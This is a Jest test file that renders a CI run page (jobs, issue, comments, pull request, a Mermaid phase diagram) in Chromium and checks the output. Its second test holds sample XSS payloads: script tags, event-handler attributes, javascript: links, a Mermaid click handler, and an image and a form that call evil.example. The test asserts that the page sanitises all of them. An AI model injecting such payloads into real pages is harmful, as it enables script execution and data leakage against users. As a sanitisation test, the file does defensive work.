import { copyFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals';
import { type PageView, pageOf } from '../../lab/page/page.ts';
import { writePage } from '../../lab/page/write-page.ts';
import { readIssue } from '../../lab/stage.ts';
import { openRig, type Rig } from '../lab/rig.ts';
import { findChromium, openTab, type Tab } from './chromium.ts';

jest.setTimeout(120_000);

const root = join(import.meta.dirname, '../..');
/** Kept by CI, not by git. */
const EVIDENCE = join(root, '.ci/evidence');
/** `npm test` has to pass on machines without a browser, and says by the skipped name what it left out. */
const inBrowser = process.env['PAGE'] === undefined ? describe.skip : describe;

inBrowser('the page of a run in Chromium (npm run test:page)', () => {
  let folder: string;
  let browser: string;
  let rig: Rig;
  beforeAll(async () => {
    const found = findChromium();
    if (found === null)
      throw new Error('There is no Chromium here: install Debian’s `chromium`, or name one in CHROMIUM.');
    browser = found;
    folder = mkdtempSync(join(tmpdir(), 'page-'));
    mkdirSync(EVIDENCE, { recursive: true });
    rig = await openRig();
  });
  afterAll(async () => {
    await rig?.close();
    rmSync(folder, { recursive: true, force: true });
  });

  /** Opens a page, hands it on, and keeps a picture of it as evidence. */
  async function see(path: string, picture: string, look: (tab: Tab) => Promise<void>, dark = false): Promise<void> {
    const tab = await openTab(browser, pathToFileURL(path).href, dark);
    try {
      await tab.evaluate('document.fonts.ready.then(() => true)');
      await look(tab);
      writeFileSync(join(EVIDENCE, `${picture}.png`), await tab.screenshot());
    } finally {
      await tab.close();
    }
  }
  const text = (tab: Tab) => tab.evaluate<string>('document.body.innerText');
  const drawn = (tab: Tab) =>
    tab.evaluate<string[]>(`new Promise((resolve) => {
      const look = () => document.querySelector('pre.mermaid[data-processed] svg')
        ? resolve([...document.querySelectorAll('pre.mermaid svg .node')].map((node) => node.textContent.trim()))
        : setTimeout(look, 20);
      look();
    })`);

  it('shows jobs, summaries, issue, comments and pull request, and draws the phases', async () => {
    const { title, body } = readIssue('lab/sample-issue.md');
    const stage = await rig.stage('page');
    const issue = await stage.fileIssue(title, body);
    await stage.dispatch(issue);
    const [run] = await rig.ended(stage);
    if (run === undefined) throw new Error('no run');
    const path = await writePage(stage, run, issue);
    for (const dark of [false, true]) {
      await see(
        path,
        dark ? 'page-dark' : 'page',
        async (tab) => {
          expect(await drawn(tab)).toEqual(
            [
              'open\npassed',
              'start-issue\npassed',
              'eval-plan\n100/100 · passed',
              'execute-plan\npassed',
              'verify\npassed',
              'review\n100/100 · passed',
              'finish-issue\npassed',
            ].map((words) => words.replace('\n', '')),
          );
          const shown = await text(tab);
          for (const words of [
            'solve / finish-issue',
            'npm test with the change: exit 0',
            'Checkpoint 1: Score check (≥90 auto-continue) — 100/100',
            'Resolved by #2.',
            'Pull request #2: fix: sum of an empty cart is NaN (merged)',
            'Issue #1: Sum of an empty cart is NaN (closed)',
          ])
            expect(shown).toContain(words);
          expect(shown).not.toContain('issue-relay:progress');
          expect(await tab.evaluate('document.querySelectorAll("article input[type=checkbox]:checked").length')).toBe(
            7,
          );
          expect(tab.errors).toEqual([]);
          expect(tab.requests().filter((url) => !url.startsWith('file:'))).toEqual([]);
        },
        dark,
      );
    }
  });

  it('runs, fetches and shows nothing that a comment smuggles in', async () => {
    const evil = [
      '<img src="https://evil.example/?d=1" onerror="window.hacked = 1">',
      '<script>window.hacked = 1</script>',
      '<details ontoggle="window.hacked = 1" open><summary>x</summary></details>',
      '[click](javascript:window.hacked=1)',
      '<style>body { display: none }</style>',
      '```mermaid\nflowchart LR\n  a["<img src=x onerror=window.hacked=1>"]\n  click a call alert()\n```',
      '<form action="https://evil.example"><input name="q"></form>',
      'still here',
    ].join('\n\n');
    const said = {
      author: '<b>mallory</b>',
      body: evil,
      number: 1,
      title: '</title><script>hacked = 1</script>',
      state: 'open',
    };
    const job = {
      name: '<i>job</i>',
      conclusion: 'success',
      outcome: '',
      seconds: 1,
      log: '"><script>hacked=1</script>.log',
    };
    const view: PageView = {
      repository: 'acme/shop',
      run: { number: 1, event: 'issues', conclusion: 'success' },
      jobs: [{ ...job, summary: evil, annotations: [{ level: 'error', message: '<script>hacked = 1</script>' }] }],
      issue: said,
      comments: [said],
      pulls: [said],
    };
    const path = join(folder, 'index.html');
    writeFileSync(path, pageOf(view, readFileSync(join(root, 'lab/page/page.css'), 'utf8')));
    copyFileSync(createRequire(import.meta.url).resolve('@mermaid-js/tiny'), join(folder, 'mermaid.js'));
    await see(path, 'page-hostile', async (tab) => {
      await drawn(tab);
      expect(await tab.evaluate('typeof window.hacked')).toBe('undefined');
      expect(
        await tab.evaluate('document.querySelectorAll("form, article script, article style:not(svg *)").length'),
      ).toBe(0);
      expect(await text(tab)).toContain('still here');
      expect(tab.requests().filter((url) => /^https?:/.test(url))).toEqual([]);
      expect(await tab.evaluate('document.querySelectorAll(\'a[href^="javascript" i]\').length')).toBe(0);
    });
  });
});
